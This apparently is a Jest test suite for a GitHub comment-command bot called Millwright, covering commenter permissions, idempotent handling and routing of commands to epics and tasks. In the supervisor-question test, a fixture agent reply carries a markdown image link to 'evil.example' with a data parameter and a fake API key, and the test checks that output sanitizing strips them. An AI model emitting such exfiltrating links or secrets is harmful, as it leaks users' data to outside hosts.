import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { type IssueWorld, issueWorld, REPO } from '../../support/issues/issue-world.js';
import { insertPlan, insertTask } from '../../support/rows.js';

let world: IssueWorld;
let number: number;
let epicId: string;
beforeEach(async () => {
  world = await issueWorld({}, ['acme/leads']);
  ({ number } = await world.openIssue());
  await world.reconcile();
  [{ id: epicId }] = (await world.rows('SELECT id FROM epic')) as [{ id: string }];
});
afterEach(() => world.close());

const reactions = (id: number) =>
  world.github.state.comments.find((one) => one.id === id)?.reactions.map(({ content }) => content);
const outcomes = () => world.rows('SELECT author, said, outcome FROM forge_command ORDER BY created_at');
const names = () => world.controls.sent.map(({ name }) => name);

test('commands reach the epic once, in whatever order and number they are named', async () => {
  const paused = world.comment(number, '/millwright pause until Monday');
  const resumed = world.comment(number, '/Millwright RESUME\nAll is well.');
  for (const commentId of [paused.id, paused.id, resumed.id, paused.id]) await world.hint({ number, commentId });
  await world.applyHints();
  await Promise.all([world.reconcile(), world.reconcile()]);
  expect(world.controls.sent).toEqual([
    {
      workflowId: `epic/${epicId}`,
      name: 'pause',
      command: { by: 'github:rita', reason: 'until Monday' },
    },
    { workflowId: `epic/${epicId}`, name: 'resume', command: { by: 'github:rita' } },
  ]);
  expect([reactions(paused.id), reactions(resumed.id)]).toEqual([['+1'], ['+1']]);
  expect(world.ours().answers).toMatchInlineSnapshot(`
"### Millwright: answers

- **rita**, \`/millwright pause\`: The epic is paused.
- **rita**, \`/millwright resume\`: The epic goes on."
`);
});

test('an outsider hears nothing, and is counted', async () => {
  const comment = world.comment(number, '/millwright cancel', 'stranger');
  const before = world.github.state.comments.length;
  await world.hint({ number, commentId: comment.id });
  await world.applyHints();
  await world.reconcile();
  expect(names()).toEqual([]);
  expect(reactions(comment.id)).toEqual([]);
  expect(world.github.state.comments).toHaveLength(before);
  expect(await outcomes()).toEqual([{ author: 'stranger', said: 'cancel', outcome: 'outsider' }]);
});

test('a collaborator removed between the comment and the look is refused, for ever', async () => {
  world.comment(number, '/millwright cancel');
  const { roles } = world.github.state.repositoryNamed(REPO);
  roles.rita = 'none';
  await world.reconcile();
  roles.rita = 'write';
  await world.reconcile();
  expect(names()).toEqual([]);
  expect(await outcomes()).toMatchObject([{ outcome: 'outsider' }]);
});

test('the member of a team that is named may command', async () => {
  world.github.admin.team('acme', 'leads', ['stranger']);
  world.comment(number, '/millwright pause', 'stranger');
  await world.reconcile();
  expect(names()).toEqual(['pause']);
});

test('a comment that is edited into a command counts once, whatever it is edited into afterwards', async () => {
  const { id } = world.comment(number, 'Nice.');
  await world.reconcile();
  const edit = async (body: string): Promise<void> => {
    world.github.clock.advance(2_000);
    world.github.people.editComment({ repository: REPO, id, body, by: 'rita' });
    await world.hint({ number, commentId: id });
    await world.applyHints();
  };
  await edit('/millwright pause');
  await edit('/millwright cancel');
  expect(names()).toEqual(['pause']);
});

test('what is no command is answered with the list; what the epic refuses with its words', async () => {
  world.controls.refuse('land', 'No pull request of the epic waits to be landed.');
  const unknown = world.comment(number, '/millwright frobnicate @everyone');
  const refused = world.comment(number, '/millwright land');
  await world.reconcile();
  expect([reactions(unknown.id), reactions(refused.id)]).toEqual([['confused'], ['-1']]);
  expect(world.ours().answers).toMatchInlineSnapshot(`
"### Millwright: answers

- **rita**, \`/millwright unknown\`: \`frobnicate\` is no command, or lacks its text. There are: \`/millwright plan\`, \`/millwright approve\`, \`/millwright land\`, \`/millwright pause\`, \`/millwright resume\`, \`/millwright retry\`, \`/millwright cancel\`, \`/millwright ask <text>\`.
- **rita**, \`/millwright land\`: No pull request of the epic waits to be landed."
`);
});

test('a plan is approved in the version that is stored, and shown when it is asked for', async () => {
  await insertPlan(world.database.pools.writes, epicId, 1, { tasks: [{ key: 'a', title: 'Knit <b>@rita</b>' }] });
  world.comment(number, '/millwright plan');
  world.comment(number, '/millwright approve');
  await world.reconcile();
  expect(world.controls.sent).toMatchObject([{ name: 'approvePlan', command: { planVersion: 1 } }]);
  expect(world.ours().answers).toContain('Knit &lt;b&gt;&#64;\u200brita&lt;/b&gt;');
});

test('a question is mail to the supervisor, and its answer is shown', async () => {
  const { id } = world.comment(number, '/millwright ask Which colours?\nI like red.');
  await Promise.all([world.reconcile(), world.reconcile()]);
  const mails = await world.rows(`SELECT id, from_id, to_kind, to_id, body FROM mail`);
  expect(mails).toMatchObject([
    { from_id: 'github:rita', to_kind: 'epic', to_id: epicId, body: 'Which colours?\nI like red.' },
  ]);
  expect(await world.rows(`SELECT workflow_id FROM outbox WHERE name = 'mail'`)).toEqual([
    { workflow_id: `epic/${epicId}` },
  ]);
  expect(reactions(id)).toEqual(['eyes']);
  await world.rows(
    `INSERT INTO mail (id, thread_id, from_kind, from_id, to_kind, to_id, subject, body, kind, project_id)
     VALUES (gen_random_uuid(), $1, 'agent', 'supervisor', 'human', 'github:rita', 'Re', $2, 'message', $3)`,
    mails[0]?.id,
    'Red and ![x](https://evil.example/?d=1), see @octocat, key sk-0123456789abcdef0123',
    world.projectId,
  );
  await world.reconcile();
  const { answers = '' } = world.ours();
  expect(answers).toContain('> Red and');
  expect(answers).not.toMatch(/@octocat|!\[|https:\/\/evil|sk-0123/);
});

test('an issue without an epic becomes one by a command, a foreign pull request does not', async () => {
  const other = await world.openIssue({ title: 'Knit hats', labels: [] });
  world.comment(other.number, '/millwright plan');
  world.comment(other.number, '/millwright pause', 'stranger');
  await world.reconcile();
  expect(await world.epics()).toMatchObject([{ title: 'Sell socks' }, { title: 'Knit hats' }]);
});

test('while no worker answers nothing is lost, and nothing is said twice', async () => {
  world.controls.isAway = true;
  const { id } = world.comment(number, '/millwright pause');
  await expect(world.reconcile()).rejects.toMatchObject({ type: 'Unavailable' });
  world.controls.isAway = false;
  await world.reconcile();
  expect(names()).toEqual(['pause']);
  expect(reactions(id)).toEqual(['+1']);
});

test('below the pull request of a task, commands are for the task; what only an epic has is for its epic', async () => {
  const taskId = await insertTask(world.database.pools.writes, world.projectId, { epicId, state: 'REVIEW' });
  const tip = await world.github.people.tip(REPO);
  await world.github.people.moveBranch({ repository: REPO, branch: 'topic', to: tip ?? null });
  await world.github.people.push({ repository: REPO, branch: 'topic', files: { 'a.txt': 'a' } });
  const pull = await world.github.people.openPullRequest({ repository: REPO, title: 'T', head: 'topic' });
  await world.rows(
    `INSERT INTO pull_request (project_id, number, task_id, title, body, author, head_ref, head_sha, base_ref, base_sha, marker)
     VALUES ($1, $2, $3, 'T', '', 'millwright[bot]', 'topic', 'a', 'main', 'b', 'm')`,
    world.projectId,
    pull.number,
    taskId,
  );
  for (const verb of ['pause', 'retry', 'land', 'ask how far?']) world.comment(pull.number, `/millwright ${verb}`);
  await world.reconcile();
  expect(world.controls.sent.map(({ workflowId, name }) => [workflowId, name])).toEqual([
    [`task/${taskId}`, 'pause'],
    [`epic/${epicId}`, 'retryTask'],
    [`epic/${epicId}`, 'land'],
  ]);
  expect(await world.rows(`SELECT to_kind, to_id FROM mail`)).toEqual([{ to_kind: 'task', to_id: taskId }]);
});

test('a command whose answer was lost is not carried out again', async () => {
  world.controls.losesAnswer = true;
  const { id } = world.comment(number, '/millwright cancel');
  await expect(world.reconcile()).rejects.toMatchObject({ type: 'Unavailable' });
  await world.reconcile();
  expect(names()).toEqual(['cancel']);
  expect(reactions(id)).toEqual(['+1']);
});
